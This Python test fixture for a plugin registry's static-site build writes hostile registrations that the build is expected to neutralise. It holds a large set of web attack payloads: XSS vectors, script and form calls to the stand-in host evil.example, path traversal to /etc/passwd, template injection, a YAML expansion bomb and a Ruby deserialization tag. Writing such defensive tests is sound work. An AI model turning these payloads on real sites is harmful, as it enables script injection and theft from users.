"""Registrations that try to do more than be read: the build must show each harmlessly, or leave it out."""

# ruff: noqa: E501 -- an attack is easier to understand in one line

import json
from collections.abc import Mapping
from pathlib import Path
from typing import Any

from registry.registration.frontmatter import dump

BASE: dict[str, Any] = {
    "layout": "plugin",
    "title": "A title",
    "description": "A description.",
    "author": "Somebody",
    "license": "MIT",
    "date": "2020-01-02",
    "homepage": "https://example.org/home",
    "source": "https://github.com/owner/name",
    "archive": "https://example.org/archive.zip",
}

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "script-case": "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "image": "<img src=x onerror=alert(1)>",
    "image-slash": "v1<img/src=x/onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)>",
    "math": "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "double-quote": '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "single-quote": "' onmouseover='alert(1)' autofocus onfocus='alert(1)' x='",
    "break-out": '>=3"}]</script><script>alert(1)</script>',
    "end-title": "</title></head><body onload=alert(1)>",
    "end-everything": "</p></li></ul></dd></div></article></main></body></html><script>alert(1)</script>",
    "comment": "<!-- --!><script>alert(1)</script><!--",
    "cdata": "]]><script>alert(1)</script><![CDATA[",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;script&#x3e;alert(1) &amp;lt;b&amp;gt;",
    "javascript-url": "javascript:alert(1)",
    "javascript-split": "java\tscript:alert(1)//https://example.org",
    "data-url": "data:text/html,<script>alert(1)</script>",
    "vbscript-url": "vbscript:msgbox(1)",
    "other-host": "//evil.example/x",
    "user-in-url": "https://example.org@evil.example/",
    "url-quote": 'https://example.org/"onmouseover="alert(1)',
    "liquid": "{{ site.time }}{% include header.html %}{{ site.config | jsonify }}",
    "liquid-assign": "{% assign x = site.plugins %}{% for p in x %}{{ p }}{% endfor %}{% raw %}",
    "template-literal": "${alert(1)}`${alert(1)}`",
    "override": "invoice\u202egnp.exe\u2066\u2069\u200f",
    "controls": "a\x00b\x07c\x1b[31md\u0085e\u2028f\ufefff\ufffe",
    "homoglyph": "Осtоprint рlugin",
    "long": "x" * 20_000,
    "marks": "Z" + "\u0310\u033a\u0356" * 400,
    "spaces": "  two  \n lines\r\n\tand more  ",
}

TEXT_KEYS = ("title", "description", "license", "note", "homepage", "source", "archive", "privacypolicy", "disabled",
             "abandoned", "up_for_adoption", "featuredimage")  # fmt: skip

WRONG: dict[str, Any] = {
    "null": None,
    "true": True,
    "number": 12345,
    "list": ["a", None, ["b"], {"c": "<b>d</b>"}],
    "mapping": {"a": {"b": "<script>alert(1)</script>"}},
    "empty": "",
    "nested": [[[[[["<script>alert(1)</script>"]]]]]],
}

BODIES = {
    "script": "<script>alert(1)</script>\n\ntext",
    "script-inline": "text <script>alert(1)</script> text",
    "split-script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "iframe": '<iframe src="https://evil.example/" srcdoc="<script>alert(1)</script>"></iframe>',
    "handlers": '<p onclick="alert(1)" onmouseover=alert(1)>x</p><b onfocus=alert(1) tabindex=1 autofocus>y</b>',
    "details": '<details open ontoggle="alert(1)"><summary>s</summary>x</details>',
    "links": "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,x) [d](//evil.example/) "
             "[e](vbscript:x) [f](/\\evil.example/) [g](file:///etc/passwd) [h](https://u:p@evil.example/)",
    "split-links": '<a href="java\nscript:alert(1)">a</a> <a href="&#106;avascript:alert(1)">b</a> '
                   '<a href=" \x01javascript:alert(1)">c</a> <a href="jav&Tab;ascript:alert(1)">d</a>',
    "reference": "[a][1] [b]\n\n[1]: javascript:alert(1) \"x\"\n[b]: <javascript:alert(1)>\n",
    "autolinks": "<javascript:alert(1)> <https://example.org/\"onmouseover=alert(1)>",
    "pictures": '![x](javascript:alert(1)) ![y](data:image/svg+xml,<svg/onload=alert(1)>) '
                '![" onerror="alert(1)](https://pictures.example/a.png) '
                '<img src="https://pictures.example/b.png" srcset="https://evil.example/c.png 2x" onload=alert(1)>',
    "picture-folder": "![x](/assets/img/plugins/../../../etc/passwd) ![y](/assets/css/site.css) ![z](x.png)",
    "attribute-lists": '{: onclick="alert(1)" style="position:fixed" id="main" class="skip"}\ntext\n\n'
                       '*x*{: onmouseover="alert(1)"}\n\n{:a: onclick="alert(1)"}\n\ny\n{: a}\n',
    "kramdown-raw": '{::nomarkdown}<script>alert(1)</script><div onclick="alert(1)">{:/}\n\n'
                    '{::nomarkdown type="html"}</blockquote><blockquote>{:/nomarkdown}',
    "kramdown-options": '{::options template="/etc/passwd" /}\n{::options syntax_highlighter="rouge" '
                        'syntax_highlighter_opts="{formatter: CSV}" /}\n\ntext',
    "kramdown-comment": "{::comment}\n--><script>alert(1)</script>\n{:/comment}\ntext",
    "liquid": "{{ site.config | jsonify }} {% include header.html %} {% raw %} {% for p in site.plugins %}{{ p }}",
    "liquid-video": "{% include youtube.html vid=\"../../evil\" %} {% include youtube.html vid='\"><script>' %} "
                    "{% include youtube.html vid=\"abcdefgh\" preview=\"javascript:alert(1)\" %}",
    "style": "<style>body{display:none}@import 'https://evil.example/x.css'</style><p style=\"position:fixed\">x</p>",
    "link-element": '<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" '
                    'content="0;url=https://evil.example/"><base href="https://evil.example/">',
    "form": '<form action="https://evil.example/"><input name=q><button formaction="javascript:alert(1)">go</button>'
            "<textarea></textarea></form>",
    "object": '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)"><applet></applet>',
    "svg": '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
                'onerror=alert(1)&gt;"></table></mtext></math><noscript><p title="</noscript><img src=x '
                'onerror=alert(1)>"></noscript>',
    "template": "<template><script>alert(1)</script></template><x-y is=z>w</x-y><slot name=a>b</slot>",
    "plaintext": "before <plaintext> after <xmp><script>alert(1)</script>",
    "unclosed": "<div><table><tr><td><b><i><a href='https://example.org/'>never closed\n\n</article></main></body>",
    "end-tags": "</div></article></main></body></html>\n\n<script>alert(1)</script>",
    "ids": '<p id="main">a</p><p id="install">b</p><a name="main" id="facts">c</a>\n\n# main\n\n# main\n\n## install',
    "headings": "# One\n\n#### Four\n\n## Two\n\n<h1>Raw</h1>\n\n[to one](#one) [to nowhere](#nowhere)",
    "table": "| a | b |\n|:-:|--:|\n| <script>alert(1)</script> | <td onclick=alert(1)> |",
    "code": "```\"><script>alert(1)</script>\nx\n```\n\n``<script>``\n\n    <script>alert(1)</script>\n",
    "fence-language": "```python\" onclick=\"alert(1)\nx\n```\n",
    "footnote": 'x[^1] y[^"><script>]\n\n[^1]: <script>alert(1)</script>\n[^"><script>]: z',
    "abbreviation": "HTML\n\n*[HTML]: \"><script>alert(1)</script>\n",
    "tasks": "- [x] done <script>alert(1)</script>\n- [ ] <img src=x onerror=alert(1)>",
    "math-block": "$$\n</script><script>alert(1)</script>\n$$\n\ninline $$x<script>alert(1)</script>$$",
    "quotes-deep": ">" * 3_000 + " deep",
    "tags-deep": "<b>" * 3_000 + "deep",
    "lists-deep": "".join(f"{'  ' * depth}- x\n" for depth in range(300)),
    "long-line": "a" * 150_000,
    "large": "word " * 60_000,
    "brackets": "[" * 5_000 + "](" * 100,
    "stars": "*a **b " * 2_000,
    "controls": "a\x00b\x07c\ufffed\u202eright-to-left",
    "homepage-form": "[home]({{ page.homepage }}) [again]({{ page.homepage | absolute_url }}/issues)",
    "own-links": "[x](/plugins/innocent/) [y](/plugins/nobody/) [z](/help/#none) ![p](/assets/img/plugins/no/x.png)",
}  # fmt: skip

STEERING: dict[str, dict[str, Any]] = {
    "permalink": {"permalink": "/index.html"},
    "permalink-escape": {"permalink": "/../../../../escaped.html"},
    "unpublished": {"published": False},
    "slug": {"slug": "../../other", "categories": "a/b", "category": "c"},
    "layout": {"layout": "none"},
    "layout-nil": {"layout": None, "render_with_liquid": True},
    "date": {"date": "yesterday"},
    "date-impossible": {"date": "2020-13-45"},
    "excerpt": {"excerpt_separator": "A", "excerpt": "<script>alert(1)</script>"},
    "redirect": {"redirect_from": ["/", "/index.html", "/help/", "../../x", "/plugins/innocent/", "/plugins.json",
                                   "https://evil.example/", "/plugins/page/", "/plugins/index.html", "/plugins/../a/"]},
    "redirect-good": {"redirect_from": "/plugins/old-name/"},
    "jekyll": {"url": "https://evil.example/", "content": "<script>", "next": {"href": "javascript:alert(1)"},
               "previous": "x", "output": "x", "path": "/etc/passwd", "href": "javascript:alert(1)", "collection": "x",
               "paginator": 1, "section": "<script>", "scripts": ["//evil.example/x.js"], "card": "<script>"},
}  # fmt: skip

FILES = {
    "broken-yaml.md": b"---\ntitle: [\n---\n",
    "no-front-matter.md": b"only text\n",
    "unclosed.md": b"---\ntitle: x\n",
    "not-utf8.md": b"---\ntitle: \xff\xfe\n---\n",
    "bomb.md": b"---\na: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n---\n",
    "ruby-object.md": b"---\ntitle: !ruby/object:Gem::Installer\n  i: x\n---\n",
    "list.md": b"---\n- a\n---\n",
    "deep.md": b"---\ntitle: " + b"[" * 5_000 + b"]" * 5_000 + b"\n---\n",
    "large.md": b"---\ntitle: x\n---\n" + b"x" * 3_000_000,
    "index.html.md": b"---\ntitle: index\n---\n",
    "..evil.md": b"---\ntitle: dots\n---\n",
    ".hidden.md": b"---\ntitle: hidden\n---\n",
    "with space.md": b"---\ntitle: space\n---\n",
    "evil.html": b"<script>alert(1)</script>",
    "evil.js": b"alert(1)",
    "evil.rb": b"raise 'code from a registration runs'",
}
"""Left out, each by name; names that begin with a dot without a word."""


def write_attacks(plugins: Path, data: Path) -> None:
    """Write all attacks into `plugins`, and notices that attack too into `data`."""
    for name, content in FILES.items():
        (plugins / name).write_bytes(content)
    (plugins / "folder.md").mkdir()
    for slug, (front_matter, body) in attacks().items():
        (plugins / f"{slug}.md").write_text(
            dump({"id": slug, **front_matter}, body), encoding="utf-8", newline=""
        )
    notices = [
        {"plugin": text, "text": text, "link": text, "date": "2020-01-02 03:04:05Z", "versions": [text],
         "pluginversions": text, "octoversions": {"a": text}, "important": text}
        for text in PAYLOADS.values()
    ]  # fmt: skip
    wrong: list[Any] = [None, "text", 5, {}, {"plugin": [], "text": {}, "date": 5}, *notices]
    (data / "notices.json").write_text(json.dumps(wrong), encoding="utf-8")


def attacks() -> Mapping[str, tuple[dict[str, Any], str]]:
    """Return slug -> front matter and body of every attack that becomes a page."""
    made: dict[str, tuple[dict[str, Any], str]] = {"innocent": (BASE, "Just text.\n")}
    for name, payload in PAYLOADS.items():
        made[f"text-{name}"] = (
            {**BASE, **dict.fromkeys(TEXT_KEYS, payload), **_everywhere(payload)},
            "Text.\n",
        )
    for name, value in WRONG.items():
        keys = [*TEXT_KEYS, *_everywhere("x"), "date", "redirect_from", "follow_dependency_links"]
        made[f"wrong-{name}"] = (dict.fromkeys(keys, value), "Text.\n")
        inner = {
            key: dict.fromkeys(entry, value)
            for key, entry in _everywhere("x").items()
            if isinstance(entry, dict)
        }
        made[f"wrong-inside-{name}"] = ({**BASE, **inner, "screenshots": [value, {"url": value}]}, "Text.\n")
    for name, body in BODIES.items():
        made[f"body-{name}"] = (dict(BASE), body)
    for name, keys in STEERING.items():
        made[f"steer-{name}"] = ({**BASE, **keys}, "{{ page.title }} {% include header.html %}\n")
    for slug in ("_underscore", "dots.in.name", "plus+name", "CamelCase"):
        made[slug] = ({**BASE, "title": slug}, "Text.\n")
    return made


def _everywhere(payload: str) -> dict[str, Any]:
    """Return the payload in every other place of the enriched front matter."""
    window = {
        "instances": 3,
        "install_events": 1,
        "uninstall_events": 0,
        "versions": {payload: 3, "1.0": payload},
    }
    return {
        "authors": [payload, "Somebody"],
        "tags": [payload, "tag"],
        "attributes": [payload],
        "screenshots": [
            {"url": "https://pictures.example/a.png", "alt": payload, "caption": payload},
            {"url": payload, "alt": payload, "caption": payload},
        ],
        "compatibility": {"octoprint": [payload], "os": [payload, "linux"], "python": payload},
        "compatibility_evidence": {"python": payload, "rule": payload, "path": payload, "line": 3, "commit": payload,
                                   "registered": payload},
        "stats": {"week": window, "month": window},
        "github": {"repo": "owner/name", "stars": payload, "watchers": 1, "forks": None, "open_issues": -4,
                   "closed_issues": 1.5, "releases": True, "last_push": payload, "archived": payload,
                   "license": payload, "topics": [payload], "latest_release": payload, "latest_release_tag": payload,
                   "latest_release_url": payload, "latest_release_date": payload, "gone_since": payload},
        "ranks": {"instances_month": payload, "growth": 1, "stars": -1},
        "freshness": {"usage": {"as_of": payload, "stale": payload}, "github": {"as_of": "2020-07-24", "stale": True}},
    }  # fmt: skip
